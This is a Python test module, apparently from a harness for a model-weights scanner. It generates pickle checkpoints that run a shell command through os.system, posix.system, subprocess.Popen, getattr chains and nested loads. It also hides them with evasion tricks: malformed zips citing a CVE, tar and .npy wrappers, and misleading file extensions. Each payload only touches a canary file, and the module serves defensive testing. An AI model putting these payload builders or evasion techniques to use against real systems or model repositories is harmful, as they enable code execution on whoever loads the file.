"""K1: code in a checkpoint. Payloads are harmless (they would write the canary file) and nothing here loads them.

Pickles are written opcode by opcode where Python's own pickler would not write them that way.
"""

from __future__ import annotations

import io
import pickle
import random
import struct
import tarfile
import zipfile
from collections.abc import Callable

from attacks.project import ENGINEER, Project
from attacks.story import Place, Planted, Seen, Story, Twin, Variant, seen

UNSAFE = frozenset({"unsafe-checkpoint"})
CHECKPOINT = "weights/init.pt"


def look(project: Project, planted: Planted) -> Seen:
    """Inspect the weights, then try to run."""
    return seen(project.truerun("check", "weights", "--format", "json"), project.run(*planted.command))


def _shell(project: Project) -> bytes:
    return f"touch {project.canary}".encode()


def _text(value: bytes) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value


def reduce_payload(project: Project) -> bytes:
    """GLOBAL os system, REDUCE."""
    return b"\x80\x02cos\nsystem\n" + _text(_shell(project)) + b"\x85R."


def stack_global_payload(project: Project) -> bytes:
    """The global's name is put together on the stack, through the memo."""
    return b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94" + b"h\x02" + _text(_shell(project)) + b"\x85R."


def inst_payload(project: Project) -> bytes:
    """INST, protocol 0."""
    return b"(S'" + _shell(project) + b"'\nios\nsystem\n."


def obj_payload(project: Project) -> bytes:
    """OBJ: the callable comes off the stack."""
    return b"(cos\nsystem\n" + _text(_shell(project)) + b"o."


def build_payload(project: Project) -> bytes:
    """BUILD gives an innocent object a __setstate__ of its own, a second BUILD calls it."""
    make = b"ccollections\nOrderedDict\n)R"
    return b"\x80\x02" + make + b"}" + _text(b"__setstate__") + b"cos\nsystem\ns" + b"b" + _text(_shell(project)) + b"b."


def newobj_payload(project: Project) -> bytes:
    """NEWOBJ of a class whose construction starts a process."""
    arguments = b"]" + _text(b"touch") + b"a" + _text(str(project.canary).encode()) + b"a"
    return b"\x80\x02csubprocess\nPopen\n" + arguments + b"\x85\x81."


def two_stage_payload(project: Project) -> bytes:
    """Only a loader is named; what it loads is inside, as data."""
    inner = reduce_payload(project)
    return b"\x80\x03c_pickle\nloads\nB" + struct.pack("<I", len(inner)) + inner + b"\x85R."


def stacked_payload(project: Project) -> bytes:
    """A second pickle after the first one's end, as the legacy torch format reads several."""
    return pickle.dumps({"epoch": 3}, protocol=2) + reduce_payload(project)


def getattr_payload(project: Project) -> bytes:
    """A long way round: builtins.getattr of an imported module."""
    module = b"cimportlib\nimport_module\n" + _text(b"os") + b"\x85R"
    return b"\x80\x02cbuiltins\ngetattr\n" + module + _text(b"system") + b"\x86R" + _text(_shell(project)) + b"\x85R."


def archive(payload: bytes, *, name: str = "archive/data.pkl") -> bytes:
    """The zip layout that torch.save writes, around *payload*."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zipped:
        zipped.writestr(name, payload)
        zipped.writestr("archive/data/0", b"\0" * 64)
        zipped.writestr("archive/version", b"3\n")
    return buffer.getvalue()


def flagged(data: bytes) -> bytes:
    """The zip with its general-purpose flag bits set, so that strict readers stop while torch does not (CVE-2025-1945)."""
    changed = bytearray(data)
    at = changed.find(b"PK\x01\x02")
    changed[at + 8] |= 0x1
    return bytes(changed)


def truncated(data: bytes) -> bytes:
    """The zip without its central directory: only a reader that walks local headers sees the members."""
    return data[: data.find(b"PK\x01\x02")]


def wrong_sum(data: bytes) -> bytes:
    """The zip with a wrong checksum in the central directory."""
    changed = bytearray(data)
    changed[changed.find(b"PK\x01\x02") + 16] ^= 0xFF
    return bytes(changed)


def tarred(payload: bytes) -> bytes:
    """The pickle inside the tar layout of very old torch.save."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for name in ("pickle", "storages", "tensors"):
            member = tarfile.TarInfo(name)
            data = payload if name == "pickle" else pickle.dumps(0)
            member.size = len(data)
            tar.addfile(member, io.BytesIO(data))
    return buffer.getvalue()


def object_array(payload: bytes) -> bytes:
    """A .npy file whose dtype is object: its data is a pickle."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (64 - (len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def _case(name: str, make: Callable[[Project], bytes], words: tuple[str, ...], path: str = CHECKPOINT) -> Variant:
    def plant(project: Project, draw: random.Random) -> Planted:
        data = make(project)
        if path != CHECKPOINT:
            project.replace("truerun.toml", CHECKPOINT, path)
            project.replace(
                "train.py", f'torch.load("{CHECKPOINT}", weights_only=True)', f'torch.load("{path}", weights_only=False)'
            )
        (project.root / path).write_bytes(data)
        approved = draw.random() < 0.5
        (project.agree if approved else project.lock)(ENGINEER, "better starting point")
        return Planted(
            what=f"{path}: {name}, {'approved' if approved else 'not approved'}",
            rules=UNSAFE,
            place=Place(path=path, words=words),
            # What was approved is no change any more: the file itself is named, the ledger has who proposed it.
            actors=frozenset() if approved else frozenset({ENGINEER}),
            started=False,
        )

    return Variant(name=name, plant=plant, look=look)


def _genuine(project: Project, draw: random.Random) -> None:
    """Checkpoints as torch.save writes them: new and legacy layout, with optimizer and random state beside the weights."""
    done = project.command("python", "-c", GENUINE.format(seed=draw.randrange(10_000)))
    assert done.code == 0, done.text()
    project.replace("truerun.toml", 'input = ["weights/init.pt"]', 'input = ["weights/*.pt"]')
    project.agree(ENGINEER, "better starting point")


GENUINE = """
import collections, torch, yaml
from model import Digits
torch.manual_seed({seed})
model = Digits(yaml.safe_load(open("config.yaml"))["model"]["hidden"])
optimizer = torch.optim.AdamW(model.parameters())
model(torch.rand(4, 64)).sum().backward()
optimizer.step()
torch.save(model.state_dict(), "weights/init.pt")
torch.save(model.state_dict(), "weights/legacy.pt", _use_new_zipfile_serialization=False)
everything = {{
    "model": model.state_dict(), "optimizer": optimizer.state_dict(), "epoch": 3, "rng": torch.get_rng_state(),
    "history": collections.OrderedDict(loss=[2.3, 1.9]), "half": torch.rand(4).half(), "brain": torch.rand(4).bfloat16(),
}}
torch.save(everything, "weights/everything.pt")
"""

STORIES = (
    Story(
        id="K1",
        title="code in a checkpoint",
        expected="file, opcode and global, before anything is loaded",
        variants=(
            _case("REDUCE in a zip", lambda project: archive(reduce_payload(project)), ("system", "REDUCE")),
            _case("STACK_GLOBAL", lambda project: archive(stack_global_payload(project)), ("posix", "system")),
            _case("INST", inst_payload, ("system", "INST")),
            _case("OBJ", obj_payload, ("system",)),
            _case("BUILD", lambda project: archive(build_payload(project)), ("system",)),
            _case("NEWOBJ", newobj_payload, ("subprocess", "Popen")),
            _case("getattr", lambda project: archive(getattr_payload(project)), ("getattr",)),
            _case("two-stage", lambda project: archive(two_stage_payload(project)), ("pickle", "loads")),
            _case("second pickle", stacked_payload, ("system",)),
            _case("archive in an archive", lambda project: archive(archive(reduce_payload(project))), ()),
            _case("other member name", lambda project: archive(reduce_payload(project), name="archive/extra.bin"), ()),
            _case("zip with flag bits", lambda project: flagged(archive(reduce_payload(project))), ()),
            _case("zip without directory", lambda project: truncated(archive(reduce_payload(project))), ()),
            _case("zip with a wrong checksum", lambda project: wrong_sum(archive(reduce_payload(project))), ()),
            _case("tar", lambda project: tarred(reduce_payload(project)), ()),
            _case("pickle named .safetensors", reduce_payload, ("system",), "weights/init.safetensors"),
            _case("zip named .bin", lambda project: archive(reduce_payload(project)), ("system",), "weights/init.bin"),
            _case("object array named .npy", lambda project: object_array(reduce_payload(project)), (), "weights/init.npy"),
        ),
        twins=(Twin(what="genuine torch.save checkpoints, approved", act=_genuine, look=look),),
    ),
)
